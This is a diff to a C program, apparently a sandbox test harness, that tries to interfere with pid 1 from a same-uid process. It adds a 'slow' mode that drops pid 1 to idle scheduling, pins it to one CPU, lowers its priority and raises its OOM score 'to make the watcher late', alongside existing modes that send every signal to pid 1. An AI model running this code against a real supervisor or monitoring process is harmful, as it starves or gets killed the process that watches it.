@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: MIT */
 /*
  * Everything that one process can do to another of the same uid, done to
- * pid 1. pid1 MODE: look (harmless), or one of kill, rlimit.
+ * pid 1. pid1 MODE: look (harmless), or one of kill, rlimit, slow.
  */
 #include "attack.h"
 
@@ -91,12 +91,47 @@ static void look(void)
 	TRY("prlimit-get", prlimit(1, RLIMIT_CPU, NULL, &rl));
 }
 
+static long write_file(const char *path, const char *text)
+{
+	int fd = open(path, O_WRONLY);
+
+	return fd < 0 ? -1 : write(fd, text, strlen(text));
+}
+
+/* Everything that would make the watcher late. */
+static void slow(void)
+{
+	struct sched_param idle = {0};
+	struct {
+		unsigned size, policy;
+		unsigned long long flags;
+		int nice;
+		unsigned prio;
+		unsigned long long runtime, deadline, period;
+	} attr = {.size = sizeof(attr), .policy = SCHED_IDLE};
+	cpu_set_t one;
+
+	CPU_ZERO(&one);
+	CPU_SET(0, &one);
+	TRY("setscheduler", sched_setscheduler(1, SCHED_IDLE, &idle));
+	TRY("setattr", syscall(SYS_sched_setattr, 1, &attr, 0));
+	TRY("setaffinity", sched_setaffinity(1, sizeof(one), &one));
+	TRY("process", setpriority(PRIO_PROCESS, 1, 19));
+	TRY("user", setpriority(PRIO_USER, getuid(), 19));
+	TRY("group", setpgid(0, 1) < 0 ? -1 : setpriority(PRIO_PGRP, 1, 19));
+	TRY("autogroup", write_file("/proc/1/autogroup", "19"));
+	TRY("our-autogroup", write_file("/proc/self/autogroup", "19"));
+	TRY("oom", write_file("/proc/1/oom_score_adj", "1000"));
+}
+
 int main(int argc, char **argv)
 {
 	const char *mode = argc > 1 ? argv[1] : "look";
 
 	if (strcmp(mode, "look") == 0) {
 		look();
+	} else if (strcmp(mode, "slow") == 0) {
+		slow();
 	} else if (strcmp(mode, "kill") == 0) {
 		for (int sig = 1; sig < 65; sig++) {
 			if (kill(1, sig) == 0)
